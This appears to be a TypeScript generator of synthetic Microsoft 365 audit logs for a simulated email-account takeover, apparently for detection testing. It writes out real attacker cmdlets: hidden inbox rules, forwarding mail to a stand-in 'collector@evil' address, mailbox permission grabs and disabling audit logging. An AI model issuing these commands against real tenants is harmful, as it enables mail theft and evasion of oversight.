import { folderIdOf } from '../chance/ids.js';
import { shareOf } from '../chance/seeds.js';
import { targetUser } from '../records/directory-audit.js';
import { logDeletion, logOther } from '../records/mailbox-record.js';
import type { Session } from '../records/session.js';
import { outlookDesktop } from '../world/clients.js';
import { cmdlet, directoryAct, intruderActor, loot, signIn, sync } from './acts.js';
import { authenticated } from './campaign.js';
import { enter } from './entries.js';
import { anotherVictim, type Raid } from './raid.js';

const MINUTE_MS = 60_000;
const HOUR_MS = 60 * MINUTE_MS;

/** The intruder is in, has looked around, and now does one thing. */
function inside(raid: Raid): { readonly session: Session; readonly atMs: number } {
  const { session, atMs } = enter(raid);
  loot(raid, session, atMs);
  return { session, atMs: atMs + raid.random.between(5, 60) * MINUTE_MS };
}

function self({ victim }: Raid): ReturnType<typeof targetUser> {
  return targetUser({ userId: victim.userId, displayName: victim.displayName, upn: victim.mailbox.upn });
}

/** B1 */
export function addMethod(raid: Raid): void {
  const { atMs } = inside(raid);
  directoryAct(raid, atMs, {
    activity: 'User registered security info',
    category: 'UserManagement',
    service: 'Authentication Methods',
    type: 'Add',
    target: self(raid),
  });
  signIn(raid, atMs + 20 * HOUR_MS);
}

/** B2 */
export function joinDevice(raid: Raid): void {
  const { atMs } = inside(raid);
  const id = raid.random.guid();
  directoryAct(raid, atMs, {
    ...{
      activity: 'Register device',
      category: 'Device',
      service: 'Device Registration Service',
      type: 'Add',
    },
    target: {
      id,
      displayName: `DESKTOP-${raid.random.text('ABCDEF0123456789', 7)}`,
      type: 'Device',
      userPrincipalName: null,
    },
    properties: { DeviceId: id, DeviceOSType: 'Windows' },
  });
}

const RULE_NAMES = ['.', 'a', '..', 'Rule 1', ',', 'News', ';', 'xx', 'Filter'];
const HIDING_FOLDERS = [
  'RSS Feeds',
  'Conversation History',
  'Archive',
  'RSS-Feeds',
  'Historique des conversations',
  'Archivio',
];
const WORDS = ['invoice;payment', 'password;security', 'rechnung;zahlung', 'factura', 'iban;bank'];

/** B3: a rule hides what would give the intruder away; made in Outlook on the web or on a desktop. */
export function hideMail(raid: Raid): void {
  const { session, atMs } = inside(raid);
  const name = raid.random.pick(shareOf(RULE_NAMES, raid.stage.split));
  const local = raid.victim.mailbox.upn.split('@')[0] ?? '';
  const effect: Readonly<Record<string, string>> = raid.random.chance(0.4)
    ? { DeleteMessage: 'True' }
    : { MoveToFolder: raid.random.pick(shareOf(HIDING_FOLDERS, raid.stage.split)), MarkAsRead: 'True' };
  if (raid.random.chance(0.3)) updateRules(raid, session, atMs, name, [{ ActionType: 'Delete' }]);
  else {
    cmdlet(raid, session, atMs, 'New-InboxRule', `${local}\\${name}`, {
      ...{ AlwaysDeleteOutlookRulesBlob: 'False', Force: 'False', Name: name, StopProcessingRules: 'True' },
      ...{ SubjectOrBodyContainsWords: raid.random.pick(WORDS), ...effect },
    });
  }
}

function updateRules(
  raid: Raid,
  session: Session,
  atMs: number,
  name: string,
  actions: readonly object[],
): void {
  const actor = intruderActor(raid, session, atMs, outlookDesktop(raid.system));
  logOther(raid.stage.logbook, raid.random, raid.stage.tenant, {
    ...{
      operation: 'UpdateInboxRules',
      atMs,
      mailbox: raid.victim.mailbox,
      actor,
      label: authenticated(raid.campaign),
    },
    rest: {
      OperationProperties: [
        { Name: 'RuleOperation', Value: 'AddMailboxRule' },
        { Name: 'RuleId', Value: raid.random.text('0123456789', 19) },
        { Name: 'RuleName', Value: name },
        { Name: 'RuleState', Value: 'Enabled' },
        { Name: 'RuleProvider', Value: 'RuleOrganizer' },
        { Name: 'RuleActions', Value: JSON.stringify(actions) },
      ],
      Item: {
        ParentFolder: { Id: folderIdOf(raid.victim.mailbox.guid, 'Inbox'), Path: '\\Inbox', Name: 'Inbox' },
      },
    },
  });
}

/** B5: mail leaves by itself from now on. */
export function forward(raid: Raid): void {
  const { session, atMs } = inside(raid);
  const { upn } = raid.victim.mailbox;
  const outside = `collector${raid.random.int(1, 99)}@evil${raid.stage.tenant.domain}`;
  const local = upn.split('@')[0] ?? '';
  const turn = raid.random.next();
  if (turn < 0.4)
    cmdlet(raid, session, atMs, 'Set-Mailbox', upn, {
      Identity: upn,
      ForwardingSmtpAddress: `smtp:${outside}`,
      DeliverToMailboxAndForward: 'True',
    });
  else if (turn < 0.75)
    cmdlet(raid, session, atMs, raid.random.pick(['New-InboxRule', 'Set-InboxRule']), `${local}\\fw`, {
      Name: 'fw',
      [raid.random.pick(['ForwardTo', 'RedirectTo', 'ForwardAsAttachmentTo'])]: outside,
    });
  else updateRules(raid, session, atMs, 'fw', [{ ActionType: 'Forward', Recipients: [outside] }]);
}

/** The rights of an administrator are used through the account that was taken. */
function administer(
  raid: Raid,
  operation: string,
  objectId: string,
  parameters: Readonly<Record<string, string>>,
): void {
  const { session, atMs } = enter(raid);
  cmdlet(raid, session, atMs + 12 * MINUTE_MS, operation, objectId, parameters);
}

/** B6 */
export function transportRule(raid: Raid): void {
  const outside = `collector@evil${raid.stage.tenant.domain}`;
  const key = raid.random.pick(['BlindCopyTo', 'RedirectMessageTo', 'CopyTo']);
  administer(raid, raid.random.pick(['New-TransportRule', 'Set-TransportRule']), 'Disclaimer', {
    Name: 'Disclaimer',
    [key]: outside,
  });
}

/** B7: an administrator's account gives itself a mailbox, and reads it. */
export function takeMailbox(raid: Raid): void {
  const admin = raid.victim;
  const owner = anotherVictim(raid);
  const { session, atMs } = enter(raid);
  const { upn } = owner.mailbox;
  cmdlet(raid, session, atMs + 5 * MINUTE_MS, 'Add-MailboxPermission', upn, {
    Identity: upn,
    User: admin.mailbox.upn,
    AccessRights: 'FullAccess',
    InheritanceType: 'All',
  });
  const fromMs = atMs + HOUR_MS;
  for (let each = 0; each < 3; each += 1) {
    const actor = { ...intruderActor(raid, session, fromMs, raid.client, admin), logonType: 2 as const };
    sync({ ...raid, victim: owner }, actor, fromMs + each * HOUR_MS, ['Inbox']);
  }
}

/** B8: a folder is opened to everybody. */
export function openFolder(raid: Raid): void {
  const { session, atMs } = inside(raid);
  const { upn, guid } = raid.victim.mailbox;
  if (raid.random.chance(0.5)) {
    cmdlet(raid, session, atMs, 'Set-MailboxFolderPermission', `${upn}:\\Inbox`, {
      Identity: `${upn}:\\Inbox`,
      User: raid.random.pick(['Default', 'Anonymous']),
      AccessRights: 'Reviewer',
    });
    return;
  }
  const actor = intruderActor(raid, session, atMs);
  logOther(raid.stage.logbook, raid.random, raid.stage.tenant, {
    ...{
      operation: 'ModifyFolderPermissions',
      atMs,
      mailbox: raid.victim.mailbox,
      actor,
      label: authenticated(raid.campaign),
    },
    rest: {
      Item: {
        ParentFolder: {
          Id: folderIdOf(guid, 'Inbox'),
          Path: '\\Inbox',
          Name: 'Inbox',
          MemberRights: 'ReadAny, Visible',
          MemberUpn: 'Everyone',
          MemberSid: 'S-1-1-0',
        },
      },
    },
  });
}

/** B9: what the intruder sent and was told is wiped. */
export function coverTracks(raid: Raid): void {
  const { session, atMs } = inside(raid);
  for (const [index, operation] of (['SoftDelete', 'HardDelete', 'HardDelete'] as const).entries()) {
    const when = atMs + index * 4 * MINUTE_MS;
    const actor = intruderActor(raid, session, when);
    logDeletion(raid.stage.logbook, raid.random, raid.stage.tenant, {
      operation,
      folder: index === 0 ? 'Inbox' : 'Deleted Items',
      count: raid.random.int(1, 12),
      atMs: when,
      mailbox: raid.victim.mailbox,
      actor,
      label: authenticated(raid.campaign),
    });
  }
}

/** B10: nobody shall see what comes next. */
export function stopAudit(raid: Raid): void {
  const { upn } = raid.victim.mailbox;
  if (raid.random.chance(0.5))
    administer(raid, 'Set-MailboxAuditBypassAssociation', upn, { Identity: upn, AuditBypassEnabled: 'True' });
  else administer(raid, 'Set-Mailbox', upn, { Identity: upn, AuditEnabled: 'False' });
}
